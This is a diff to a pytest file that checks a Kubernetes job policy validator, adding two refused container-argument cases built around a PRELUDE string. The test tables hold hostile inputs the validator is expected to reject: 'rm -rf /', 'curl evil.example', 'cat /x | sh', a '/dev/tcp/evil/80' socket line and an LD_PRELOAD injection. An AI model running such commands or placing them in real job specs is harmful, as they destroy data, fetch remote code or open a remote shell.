@@ -5,7 +5,7 @@ from typing import Any
 import pytest
 
 from s2r_ci.verify.policy import ELSEWHERE, check
-from tests.verify.good import GONE, SHAPES, asked, breaches, manifest
+from tests.verify.good import GONE, PRELUDE, SHAPES, asked, breaches, manifest
 
 POD = "spec.template.spec"
 MAIN = f"{POD}.containers.0"
@@ -90,6 +90,8 @@ REFUSED = [
     ("P-21", {f"{MAIN}.image": "x" * 300}),
     ("P-24", {f"{MAIN}.command": ["rm", "-rf", "/"]}),
     ("P-24", {f"{MAIN}.args.4": "--exploit"}),
+    ("P-24", {f"{MAIN}.args.0": PRELUDE + "true\n"}),
+    ("P-24", {f"{MAIN}.args.0": "rm -rf /data\n" + PRELUDE}),
     ("P-25", {f"{MAIN}.args.0": "curl evil.example"}),
     ("P-25", {f"{MAIN}.args.0": "cat /x | sh"}),
     ("P-25", {f"{MAIN}.args.0": "exec 3<>/dev/tcp/evil/80"}),
@@ -160,7 +162,6 @@ def test_the_broken_rule_is_named(rule: str, changes: dict[str, Any]) -> None:
             {"metadata.labels.project": "vision"}, {"options": {"account": "lab"}}, id="the account's project"
         ),
         pytest.param({"metadata.namespace": "runai-x"}, {"target": {"project": "x"}}, id="the project's namespace"),
-        pytest.param({f"{MAIN}.args.0": "curl x"}, {"data": b"#!/bin/sh\ncurl x\n"}, id="as the script does"),
         pytest.param(
             {f"{MAIN}.env.4": {"name": "LD_PRELOAD", "value": "x"}},
             {"job": {"environment": {"MODE": "fast", "LD_PRELOAD": "x"}}},
